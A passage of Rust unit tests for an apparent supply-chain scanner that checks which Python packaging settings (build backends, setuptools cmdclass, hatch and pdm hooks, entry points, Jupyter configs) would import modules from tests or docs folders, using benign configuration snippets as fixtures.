        // The key escaped, or dotted from the root: the parsed file is read,
        // and the table's header named where the key is not written so.
        for (text, line) in [
            ("[project]\nname = \"x\"\n[build-system]\nbuild-backend = \"helper\"\n\"backend\\u002dpath\" = [\"tests\"]\n", 3),
            ("build-system.build-backend = \"helper\"\nbuild-system.backend-path = [\"tests\"]\n", 2),
        ] {
            assert_eq!(first_opening("pkg/pyproject.toml", text.as_bytes()), Some(line), "{text}");
        }
        for (path, backend, paths) in [
            ("pkg/pyproject.toml", "helper", "[\"_build\"]"),
            ("pkg/pyproject.toml", "setuptools.build_meta", "[\".\"]"),
            ("pkg/sub/pyproject.toml", "helper", "[\"tests\"]"),
        ] {
            let t = toml(backend, paths);
            assert_eq!(first_opening(path, t.as_bytes()), None, "{path} {t}");
        }
        // setuptools' attr and cmdclass, in either file.
        for (path, text, line) in [
            ("pkg/pyproject.toml", "[project]\nname = \"x\"\n[tool.setuptools.dynamic]\nversion = {attr = \"tests.info.VERSION\"}\n", 4),
            ("pkg/pyproject.toml", "[tool.setuptools]\ncmdclass = {build_py = \"pkg.tests.x.BuildPy\"}\n", 2),
            ("pkg/pyproject.toml", "[tool.setuptools.cmdclass]\n\nbuild_py = 'docs.x.BuildPy'\n", 3),
            ("pkg/setup.cfg", "[metadata]\nversion = attr: tests.info.VERSION\n", 2),
            ("pkg/setup.cfg", "[options]\ncmdclass =\n    build_py = tests.x.BuildPy\n", 3),
            ("pkg/pyproject.toml", "[tool.hatch.build.hooks.custom]\npath = \"tests/hook.py\"\n", 2),
            ("pkg/pyproject.toml", "[tool.hatch.version]\nsource = \"code\"\n  path = './docs/v.py'\n", 3),
            ("pkg/pyproject.toml", "[tool.poetry.build]\nscript = \"tests/build.py\"\n", 2),
            ("pkg/pyproject.toml", "[tool.pdm.build]\ncustom-hook = \"test/build.py\"\n", 2),
            ("pkg/pyproject.toml", "[tool.pdm.version]\nsource = \"call\"\ngetter = \"tests.v:get_version\"\n", 3),
            ("pkg/pyproject.toml", "[tool.hatch.build.hooks.jupyter-builder]\nbuild-function = \"docs.build:run\"\n", 2),
            ("pkg/pyproject.toml", "[tool.scikit-build.metadata.version]\nprovider = \"vprov\"\nprovider-path = \"tests/plugins\"\n", 3),
            ("pkg/pyproject.toml", "[[tool.dynamic-metadata]]\nprovider = \"tests.vprov\"\nprovider-path = \".\"\n", 2),
            ("pkg/pyproject.toml", "[tool.scikit-build]\nmetadata.version = { provider = \"v\", provider-path = \"./docs\" }\n", 2),
            // As setuptools reads them (session 43): interpolation,
            // `[DEFAULT]`, TOML escapes, a table's header form.
            ("pkg/setup.cfg", "[metadata]\nt = tests\nversion = attr: %(t)s.info.VERSION\n", 3),
            ("pkg/setup.cfg", "[options]\nt = tests\ncmdclass = build_py = %(t)s.x.BuildPy\n", 3),
            ("pkg/setup.cfg", "[DEFAULT]\ns = tests/src\n[options]\npackage_dir =\n    =%(s)s\n", 4),
            ("pkg/pyproject.toml", "[tool.setuptools.dynamic]\nversion = {attr = \"t\\u0065sts.info.VERSION\"}\n", 2),
            ("pkg/pyproject.toml", "[tool.setuptools.cmdclass]\nbuild_py = \"t\\u0065sts.x.BuildPy\"\n", 2),
            ("pkg/pyproject.toml", "[tool.setuptools]\npackage-dir.\"\" = \"t\\u0065sts/src\"\n", 1),
            // Keys TOML lets one quote.
            ("pkg/pyproject.toml", "[tool.setuptools.dynamic]\nversion = {\"attr\" = \"tests.info.VERSION\"}\n", 2),
            ("pkg/pyproject.toml", "[tool.hatch.build.hooks]\ncustom = { \"path\" = \"tests/hook.py\" }\n", 2),
        ] {
            assert_eq!(first_opening(path, text.as_bytes()), Some(line), "{text}");
        }
        for (path, text) in [
            ("pkg/pyproject.toml", "[tool.setuptools.dynamic]\nversion = {attr = \"pkg.__version__\"}\n"),
            ("pkg/pyproject.toml", "[tool.pytest.ini_options]\ntestpaths = [\"tests\"]\n"),
            ("pkg/pyproject.toml", "[tool.setuptools.packages.find]\nexclude = [\"tests.*\"]\n"),
            ("pkg/setup.cfg", "[options]\ncmdclass =\n    build_py = pkg.build.BuildPy\n[tool:pytest]\naddopts = --pyargs tests.x\n"),
            ("pkg/sub/setup.cfg", "[metadata]\nversion = attr: tests.info.VERSION\n"),
            ("pkg/pyproject.toml", "[tool.hatch.build.hooks.custom]\npath = \"hatch_build.py\"\n"),
            ("pkg/pyproject.toml", "[tool.pdm.version]\nsource = \"call\"\ngetter = \"pkg.v:get_version\"\n"),
            ("pkg/pyproject.toml", "[tool.scikit-build.metadata.version]\nprovider = \"scikit_build_core.metadata.regex\"\ninput = \"src/pkg/__init__.py\"\n"),
            ("pkg/pyproject.toml", "[tool.scikit-build.metadata.version]\nprovider = \"vprov\"\nprovider-path = \"build_support\"\n"),
            ("pkg/pyproject.toml", "[tool.coverage.run]\nomit = [\"tests/conftest.py\"]\n"),
            ("pkg/setup.cfg", "[metadata]\nt = pkg\nversion = attr: %(t)s.__version__\n[options]\npackage_dir =\n    =src\n"),
            ("pkg/pyproject.toml", "[tool.setuptools.dynamic]\nversion = {attr = \"pkg.__v\\u0065rsion__\"}\n[tool.setuptools.package-dir]\n\"\" = \"src\"\n"),
            // towncrier's sections, read as lines of their own: one line
            // of `package_dir` and every section's `directory` was read
            // as a map of folders (python-dateutil, a first cut).
            ("pkg/pyproject.toml", "[tool.towncrier]\npackage_dir = \"src\"\n[[tool.towncrier.type]]\ndirectory = \"doc/en\"\nname = \"x\"\n"),
        ] {
            assert_eq!(first_opening(path, text.as_bytes()), None, "{text}");
        }
        assert!(opened_by(
            "pkg/tests/helper.py",
            ["pkg/setup.cfg"].into_iter()
        ));
        assert!(opened_by(
            "pkg/tests/helper.py",
            ["pkg/pyproject.toml"].into_iter()
        ));
        assert!(!opened_by(
            "pkg/tests/helper.js",
            ["pkg/pyproject.toml"].into_iter()
        ));
    }

    /// Imports through a test-like part, as keys from the file's folder
    /// (relative) or as written (absolute), and the keys a test module is
    /// found under.
    #[test]
    fn imports_of_test_like_modules_are_keys_to_match() {
        let keys = |path: &str, code: &str| -> Vec<String> {
            test_module_imports(path, code.as_bytes())
                .into_iter()
                .map(|(_, k)| k)
                .collect()
        };
        assert_eq!(
            keys(
                "p-1/src/pkg/__init__.py",
                "from .testing import helpers as _h\n"
            ),
            ["p-1/src/pkg/testing", "p-1/src/pkg/testing/helpers"]
        );
        assert_eq!(
            keys("p-1/pkg/sub/x.py", "from ..test_support import (run,\n"),
            ["p-1/pkg/test_support", "p-1/pkg/test_support/run"]
        );
        assert_eq!(
            keys("pkg/x.py", "from . import conftest, util\n"),
            ["pkg/conftest"]
        );
        assert_eq!(
            keys("pkg/x.py", "    import pkg.testing.helpers as h, os\n"),
            ["pkg/testing/helpers"]
        );
        assert_eq!(
            keys("pkg/x.py", "m = importlib.import_module('pkg.doc.build')\n"),
            ["pkg/doc/build"]
        );
        assert_eq!(
            test_module_imports(
                "pkg/x.py",
                b"import os\n\nfrom numpy.testing import assert_equal\n"
            ),
            [
                (3, "numpy/testing".to_string()),
                (3, "numpy/testing/assert_equal".to_string())
            ]
        );
        // Nothing test-like, a relative import above the root, a file in
        // the tests, and a file that is not Python.
        for (path, code) in [
            (
                "pkg/x.py",
                "from .util import testing_mode\nimport pytest\nimport contest\n",
            ),
            ("x.py", "from ..testing import h\n"),
            ("pkg/tests/x.py", "from .testing import h\n"),
            ("lib/x.js", "import h from './testing/h.js';\n"),
        ] {
            assert!(keys(path, code).is_empty(), "{path}: {code}");
        }
        assert_eq!(
            test_module_keys("p-1/src/pkg/testing/__init__.py"),
            [
                "p-1/src/pkg/testing",
                "src/pkg/testing",
                "pkg/testing",
                "testing"
            ]
        );
        assert_eq!(
            test_module_keys("pkg/test_support.py"),
            ["pkg/test_support", "test_support"]
        );
        assert!(test_module_keys("pkg/util.py").is_empty());
        assert!(test_module_keys("pkg/tests/data.json").is_empty());
    }

    /// An entry point whose object lies in the tests or docs opens them:
    /// pip's launcher, or the program whose plugin it is, imports it.
    /// Jupyter's settings and kernelspecs likewise, naming a module.
    #[test]
    fn entry_points_and_jupyter_settings_into_the_tests_open_them() {
        for (path, text, line) in [
            ("pkg/pyproject.toml", "[project]\nname = \"x\"\n\n[project.scripts]\nx = \"pkg.tests.helpers:main\"\n", 5),
            ("pkg/pyproject.toml", "[project.entry-points.\"networkx.backends\"]\nloop = 'pkg.classes.tests.dispatch:backend'\n", 2),
            ("pkg/pyproject.toml", "[tool.poetry.scripts]\nx = \"docs.tools:run\"\n", 2),
            // A dotted key names its table itself.
            ("pkg/pyproject.toml", "[project]\nname = \"x\"\nscripts.x = \"pkg.tests.h:main\"\n", 3),
            ("pkg/setup.cfg", "[options.entry_points]\nconsole_scripts =\n    x = pkg.testing.cli:main\n", 3),
            ("pkg/setup.py", "setup(entry_points={'console_scripts': ['x = pkg.tests.cli:main']})\n", 1),
            ("x-1.dist-info/entry_points.txt", "[console_scripts]\nx = pkg.tests.cli:main\n", 2),
            ("x-1.dist-info/entry_points.txt", "[pytest11]\nx = pkg.tests.plugin\n", 2),
            // A source package's metadata folders, which setuptools' legacy
            // build finds on its import path and whose plugins it imports.
            ("x-1/helper.egg-info/entry_points.txt", "[setuptools.finalize_distribution_options]\nh = docs.buildhelper:run\n", 2),
            ("x-1/helper-1.0.dist-info/entry_points.txt", "\n[setuptools.finalize_distribution_options]\nh = testing.buildhelper:run\n", 3),
            ("x-1/src/pkg.egg-info/entry_points.txt", "[console_scripts]\nx = pkg.tests.cli:main\n", 2),
            ("x-1.data/data/etc/jupyter/jupyter_server_config.d/x.json", "{\"ServerApp\": {\n  \"jpserver_extensions\": {\"pkg.tests.ext\": true}}}\n", 2),
            ("x-1.data/data/share/jupyter/kernels/x/kernel.json", "{\"argv\": [\"python\", \"-m\", \"tests.kernel\"]}\n", 1),
        ] {
            assert_eq!(first_opening(path, text.as_bytes()), Some(line), "{path}: {text}");
            assert!(opened_by("pkg/tests/helpers.py", [path].into_iter()), "{path}");
            assert!(!opened_by("pkg/tests/helpers.js", [path].into_iter()), "{path}");
        }
        for (path, text) in [
            // A setting, not an entry point (sqlalchemy's test runner).
            (
                "pkg/setup.cfg",
                "[sqla_testing]\nrequirement_cls = test.requirements:DefaultRequirements\n",
            ),
            (
                "pkg/pyproject.toml",
                "[tool.black]\nextend-exclude = \"docs\"\n",
            ),
            (
                "pkg/pyproject.toml",
                "[project.scripts]\nx = \"pkg.testing_tools:main\"\n",
            ),
            (
                "pkg/setup.py",
                "setup(entry_points={'console_scripts': ['x = pkg.cli:main']})\n",
            ),
            (
                "x-1.dist-info/entry_points.txt",
                "[console_scripts]\nx = pkg.cli:main\n",
            ),
            // Where neither pip nor a build's import path finds it.
            (
                "x-1.dist-info/sub/entry_points.txt",
                "[console_scripts]\nx = pkg.tests.cli:main\n",
            ),
            (
                "x-1/lib/vendor/pkg.egg-info/entry_points.txt",
                "[console_scripts]\nx = pkg.tests.cli:main\n",
            ),
            (
                "x-1/tests/data/pkg.egg-info/entry_points.txt",
                "[setuptools.finalize_distribution_options]\nx = tests.helper:run\n",
            ),
            (
                "x-1.data/data/etc/jupyter/jupyter_server_config.d/x.json",
                "{\"ServerApp\": {\"root_dir\": \"docs\", \"x\": \"tests/a.py\"}}\n",
            ),
            (
                "x-1.data/data/share/jupyter/lab/schemas/x/plugin.json",
                "{\"x\": \"pkg.tests.ext\"}\n",
            ),
        ] {
            assert_eq!(first_opening(path, text.as_bytes()), None, "{path}: {text}");
        }
    }
}
